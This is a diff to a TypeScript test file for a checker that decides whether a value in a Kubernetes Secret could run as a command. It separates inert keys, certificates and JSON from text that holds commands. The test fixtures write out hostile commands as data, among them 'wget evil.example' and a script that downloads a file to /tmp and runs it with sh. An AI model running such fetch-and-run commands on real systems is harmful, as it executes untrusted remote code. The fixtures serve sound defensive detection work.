@@ -1,6 +1,18 @@
+import { generateKeyPairSync } from 'node:crypto'
 import { tokensOf } from '@fairlead/contract/json-pointer'
 import { describe, expect, it } from 'vitest'
 import { mayRun } from './may-run.ts'
+
+const certificate = `-----BEGIN CERTIFICATE-----
+MIIBLDCB36ADAgECAhQL5XDnO99gJ6RF0wddr97b2VLRqzAFBgMrZXAwDDEKMAgG
+A1UEAwwBYTAeFw0yNjExMjQxNDEyMTBaFw0yNjExMjUxNDEyMTBaMAwxCjAIBgNV
+BAMMAWEwKjAFBgMrZXADIQBY0Ys6FpnM8oWULg6Ipx6rjh+SjCGIQn+DXfUctNnd
+HqNTMFEwHQYDVR0OBBYEFLzhuO9iaUje8PDh5vT8UhLQm1l2MB8GA1UdIwQYMBaA
+FLzhuO9iaUje8PDh5vT8UhLQm1l2MA8GA1UdEwEB/wQFMAMBAf8wBQYDK2VwA0EA
+0SRKMYVbUOdaOyLoQZKtB2jXCMJUBpeJ/N5bPalFuMyFFQarC+VH3OR00BZttqbc
+KJK6i9nrU/uVRH5HgnsjBA==
+-----END CERTIFICATE-----
+`
 
 const runs = (object: unknown, path: string, text = 'x') => mayRun(object, tokensOf(path), text)
 
@@ -57,10 +69,11 @@ describe('a value of a Secret may run', () => {
     expect(inData(`x${begin}`)).toBe(false)
   })
 
-  it('by the words in it, where the server checks no form', () => {
+  it('by the words in it, whatever type it says it is of', () => {
     expect(inData('wget evil.example')).toBe(true)
     expect(inData('wget evil.example', { of: { kind: 'Secret' } })).toBe(true)
-    expect(inData('wget evil.example', { of: { kind: 'Secret', type: 'kubernetes.io/tls' } })).toBe(false)
+    expect(inData('wget evil.example', { of: { kind: 'Secret', type: 'kubernetes.io/tls' } })).toBe(true)
+    expect(inData('wget evil.example', { of: { kind: 'Secret', type: 'example.com/any' } })).toBe(true)
     expect(inData(' password\n')).toBe(false)
     expect(inData('password')).toBe(false)
   })
@@ -71,20 +84,32 @@ describe('a value of a Secret may run', () => {
     expect(runs(secret, '/metadata/annotations/it', 'wget evil.example')).toBe(false)
   })
 
-  const pem = (body: string) => `-----BEGIN RSA KEY 2-----${body}-----END RSA KEY 2-----`
-  it('but not where it is a key, certificates or JSON', () => {
-    expect(inData(pem('\nabc+/=\n'))).toBe(false)
-    expect(inData(` \n${pem('\na, b: c.d-e\n')}\n${pem('\nb\n')}\n`)).toBe(false)
+  const key = generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' }).toString()
+  const script = '\n-----BEGIN A-----\nwget evil.example -O /tmp/a\nsh /tmp/a\n-----END A-----\n'
+
+  it('but not where it is keys, certificates or JSON', () => {
+    for (const text of [key, ` \n${key}\n${certificate}\n`, certificate.trim()]) expect(inData(text)).toBe(false)
     expect(inData('{ "a": 1 }')).toBe(false)
     expect(inData('[1, 2]')).toBe(false)
   })
 
-  it('where there is more than a key or JSON', () => {
-    expect(inData(`reboot\n${pem('\nb\n')}`)).toBe(true)
-    expect(inData(`${pem('\nb\n')}\nreboot`)).toBe(true)
-    expect(inData(pem('\n$(reboot)\n'))).toBe(true)
-    expect(inData('"wget evil.example"')).toBe(true)
-    expect(inData('{ "a": 1')).toBe(true)
+  it.each([
+    ['a word in front of a key', `reboot\n${key}`],
+    ['a word behind a key', `${key}\nreboot`],
+    ['a script between marks', script],
+    ['a script between marks, a key in front of it', `${key}${script}`],
+    ['a mark that no other ends', '-----BEGIN A-----\nreboot\n-----END B-----\n'],
+    ['a text of JSON', '"wget evil.example"'],
+    ['JSON that was cut', '{ "a": 1'],
+  ])('where there is more than that: %s', (_, text) => {
+    expect(inData(text)).toBe(true)
+  })
+
+  it('told in no time of many blocks that end in something else', () => {
+    const begins = '-----BEGIN A-----\n'.repeat(60_000)
+    const began = performance.now()
+    for (const text of [`${key.repeat(2_000)}$`, script.repeat(5_000), `${begins}$`]) expect(inData(text)).toBe(true)
+    expect(performance.now() - began).toBeLessThan(2_000)
   })
 })
 
